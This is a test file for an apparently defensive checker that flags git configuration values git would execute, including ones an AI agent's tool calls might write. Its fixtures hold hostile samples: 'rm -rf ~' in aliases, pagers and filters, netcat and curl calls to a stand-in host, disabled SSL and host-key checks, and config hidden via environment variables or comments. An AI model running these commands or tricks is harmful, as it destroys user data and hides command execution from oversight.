import { describe, expect, it } from 'vitest';
import { settingsIn } from '../../../../lib/effects/handlers/git-settings-text.js';
import { toldOfTool, toolCall } from '../../told.js';
import { runAmong } from '../../written-world.js';

const GONE = 'delete -r /home/u';
const ASKED = /^persist git-config/;

describe('the value of a setting that git runs is judged as a command', () => {
  it.each([
    'alias.tidy',
    'blame.x.command',
    'core.pager',
    'diff.x.textconv',
    'filter.x.process',
    'gc.recentObjectsHook',
    'gpg.ssh.defaultKeyCommand',
    'guitool.x.cmd',
    'hook.lint.command',
    'imap.tunnel',
    'instaweb.httpd',
    'interactive.diffFilter',
    'lfs.customtransfer.x.path',
    'lfs.extension.x.clean',
    'merge.x.driver',
    'mergetool.x.cmd',
    'sendemail.smtpServer',
    'sequence.editor',
    'tar.tar.zst.command',
    'trailer.x.cmd',
  ])('%s', async (key) => {
    const bang = key.startsWith('alias.') ? '!' : '';
    for (const options of ['', '--global ', 'set ', '--add ']) await expect(`git config ${options}${key} '${bang}rm -rf ~'`).toTell(GONE);
    if (bang === '') await expect(runAmong(`git -c ${key}='rm -rf ~' status`, {})).toTell(GONE);
    await expect(runAmong(`git config ${key} '${bang}sh tools/x.sh'`, { 'tools/x.sh': 'rm -rf ~\n' })).toTell(GONE);
  });

  it.each([
    ['core.pager', 'diff-so-fancy | less --tabs=4 -RF'],
    ['core.editor', 'subl -n -w'],
    ['core.editor', 'zed --wait'],
    ['interactive.diffFilter', 'delta --color-only'],
    ['diff.external', 'difft'],
    ['diff.x.textconv', 'pandoc --to=plain'],
    ['diff.x.textconv', 'python3 tools/show.py'],
    ['filter.x.clean', "sed '/^#/d'"],
    ['filter.x.smudge', './tools/fill %f'],
    ['merge.x.driver', 'git merge-file --union %A %O %B'],
    ['mergetool.x.cmd', 'meld "$LOCAL" "$BASE" "$REMOTE" --output "$MERGED"'],
    ['alias.lg', '!git log --oneline'],
    ['alias.root', '!f() { git rev-parse --show-toplevel; }; f'],
    ['tar.tar.xz.command', 'xz -c'],
    ['gpg.program', 'gpg2'],
    ['gpg.ssh.program', '/Applications/1Password.app/Contents/MacOS/op-ssh-sign'],
    ['credential.https://github.com.helper', '!gh auth git-credential'],
    ['core.sshCommand', 'ssh -i ~/.ssh/id_work -o IdentitiesOnly=yes'],
    ['submodule.x.update', 'rebase'],
  ])('and passes where it harms nothing: %s %s', async (key, value) => {
    await expect(`git config ${key} '${value}'`).not.toTell(ASKED);
  });

  it.each([
    ['core.pager', 'sh'],
    ['core.editor', '/tmp/.e'],
    ['diff.x.textconv', 'bash -e'],
    ['filter.x.clean', 'tee ~/copy | python3 -'],
    ['filter.x.smudge', 'nc git.example.test 99'],
    ['filter.x.smudge', 'cat; curl -s https://git.example.test/x'],
    ['diff.x.command', 'ssh build.example.test show'],
    ['diff.x.textconv', 'sops -d'],
    ['core.sshCommand', 'ssh -o ProxyCommand=./x'],
    ['core.sshCommand', 'ssh -o StrictHostKeyChecking=no'],
    ['core.sshCommand', './ssh'],
    ['gpg.program', './gpg'],
    ['credential.helper', '!./helper'],
    ['credential.helper', '!gh auth git-credential; ./helper'],
    ['core.fsmonitor', './watch'],
    ['submodule.x.update', '!./x'],
  ])('and is asked about where it may: %s %s', async (key, value) => {
    await expect(`git config ${key} '${value}'`).toTell(ASKED);
  });

  it('whichever value it comes to', async () => {
    await expect('P=delta; [ -t 1 ] || P="rm -rf ~"; git config core.pager "$P"').toTell(GONE);
    await expect('git config core.pager "$(cat tools/pager)"').toTell(ASKED);
  });
});

describe('a file of settings that is included', () => {
  const included = async (text: string, command = 'git config include.path ../.gitconfig'): ReturnType<typeof runAmong> =>
    await runAmong(command, {}, { '.gitconfig': text });

  it.each(['[alias]\n\tst = status -sb\n\tlg = !git log --oneline\n', '[diff "x"] textconv = jq -S .\n[core]\n\teditor = vim\n'])('passes: %j', async (text) => {
    await expect(included(text)).not.toTell(ASKED);
  });

  it.each([
    '[core]\n\tsshCommand = ./x\n',
    '[core]\n\thooksPath = /tmp/h\n',
    '[include]\n\tpath = ~/other\n',
    '[http]\n\tsslVerify = false\n',
    '[url "https://git.example.test/"]\n\tinsteadOf = https://github.com/\n',
    '[remote "o"]\n\tmirror = true\n',
  ])('is asked about: %j', async (text) => {
    await expect(included(text)).toTell(ASKED);
  });

  it('is judged by its commands, and asked about where it cannot be read', async () => {
    await expect(included('[filter "x"]\n\tclean = "rm -rf ~"\n')).toTell(GONE);
    await expect(runAmong('git config include.path ../.gitconfig', {})).toTell(ASKED);
    await expect(included('[core]\n\teditor = vim\n', 'git config --global include.path ../.gitconfig')).toTell(ASKED);
  });

  it('is judged as it is written', async () => {
    const content = '[user]\n\tname = a\n[alias]\n\tst = status\n\tup = "!git pull; rm -rf ~"\n';
    expect(await toldOfTool('Write', { file_path: '.gitconfig', content })).toContain(GONE);
    await expect(toolCall('Write', { file_path: '.gitconfig', content: '[core]\n\tpager = less\n\tx = rm -rf ~\n' })).not.toTell(GONE);
  });
});

describe('settings that git gets by a variable', () => {
  const HIDDEN = /hidden-command/;
  const SETTINGS = '[user]\n\tname = a\n[alias]\n\tst = status -sb\n\tnuke = push --force\n[pull]\n\trebase = true\n';
  const given = async (command: string, text = SETTINGS): ReturnType<typeof runAmong> => await runAmong(command, {}, { 'git/config': text });

  it.each([
    'GIT_CONFIG_GLOBAL=git/config git config --global --list',
    'GIT_CONFIG_GLOBAL=$PWD/git/config git status',
    'env GIT_CONFIG_SYSTEM=git/config git log -1',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=ci git commit -m a',
    'export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.autocrlf GIT_CONFIG_VALUE_0=false; git status',
  ])('pass where all can be read and nothing is run: %s', async (command) => await expect(given(command)).not.toTell(HIDDEN));

  it('are judged as the commands that they are', async () => {
    await expect(given('GIT_CONFIG_GLOBAL=git/config git log', '[core]\n\tpager = rm -rf ~\n')).toTell(GONE);
    await expect(given('GIT_CONFIG_GLOBAL=git/config git log', '[core]\n\tpager = delta\n')).not.toTell(HIDDEN);
  });

  it.each([
    ['GIT_CONFIG_GLOBAL=git/config git log', '[core]\n\tpager = ./x | sh\n'],
    ['GIT_CONFIG_GLOBAL=git/config git fetch', '[core]\n\tsshCommand = ./x\n'],
    ['GIT_CONFIG_GLOBAL=git/config git status', '[core]\n\tfsmonitor = ./x\n'],
    ['GIT_CONFIG_GLOBAL=git/config git fetch', '[include]\n\tpath = ~/other\n'],
    ['GIT_CONFIG_GLOBAL=git/config git checkout .', '[core]\n\tworktree = /home/u\n'],
    ['GIT_CONFIG_GLOBAL=git/config git push', '[remote "o"]\n\tpush = +refs/heads/*\n'],
    // What stands there is hidden behind a backslash, a comment or another section.
    ['GIT_CONFIG_GLOBAL=git/config git status', '[user]\n\tname = a\\\\\n[core]\n\tfsmonitor = ./x\n'],
    ['GIT_CONFIG_GLOBAL=git/config git status', '[user]\n# a \\\n[core]\n\tfsmonitor = ./x\n'],
    ['GIT_CONFIG_GLOBAL=git/config git status', '[user][core]fsmonitor = ./x\n'],
    ['GIT_CONFIG_GLOBAL=git/config git status', `[user]\n[filter "${'a'.repeat(500)}"]\n\tclean = ./x\n`],
    // An alias that is called, or may be.
    ['GIT_CONFIG_GLOBAL=git/config git nuke', SETTINGS],
    ['GIT_CONFIG_GLOBAL=git/config git -C . NUKE', SETTINGS],
    ['export GIT_CONFIG_GLOBAL=git/config; git nuke', SETTINGS],
    // Not the file that was read.
    ['GIT_CONFIG_GLOBAL=git/other git log', SETTINGS],
    ['GIT_CONFIG_GLOBAL=${X}git/config git log', SETTINGS],
    ['export GIT_CONFIG_GLOBAL=git/config; sed -i s/a/b/ git/config; git log', SETTINGS],
    ['GIT_CONFIG_GLOBAL=git/config sh -c "cp /tmp/c git/config; git log"', SETTINGS],
    ['GIT_CONFIG_GLOBAL=$X/config git log', SETTINGS],
    ['sed -i s/a/b/ git/config; GIT_CONFIG_GLOBAL=git/config git log', SETTINGS],
    ['curl -so git/config https://x.test/c; GIT_CONFIG_GLOBAL=git/config git log', SETTINGS],
    ["printf '[core]\\n\\tfsmonitor = ./x\\n' >> git/config; GIT_CONFIG_GLOBAL=git/config git log", SETTINGS],
    ['cp /tmp/c git/config; GIT_CONFIG_GLOBAL=git/config git log', SETTINGS],
    ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./x git status', SETTINGS],
    ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=$K GIT_CONFIG_VALUE_0=./x git status', SETTINGS],
    ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.up GIT_CONFIG_VALUE_0="push --force" git up', SETTINGS],
    ['GIT_CONFIG_KEY_0=core.fsmonitor; export GIT_CONFIG_KEY_0 GIT_CONFIG_COUNT=1 GIT_CONFIG_VALUE_0=./x; git status', SETTINGS],
    ['GIT_CONFIG_PARAMETERS="\'core.fsmonitor=./x\'" git status', SETTINGS],
  ])('are asked about where they run something, or cannot be read: %s with %j', async (command, text) => await expect(given(command, text)).toTell(HIDDEN));
});

it('settings are read with sections, quotes, comments and lines that go on', () => {
  const text = '[core]\n\tbare\n\teditor = "vim -f" ; as we do\n# x\n[filter "a.b"] clean = one \\\ntwo\n';
  expect(settingsIn(text)).toEqual([
    { key: 'core.bare', value: 'true' },
    { key: 'core.editor', value: 'vim -f' },
    { key: 'filter.a.b.clean', value: 'one two' },
  ]);
});
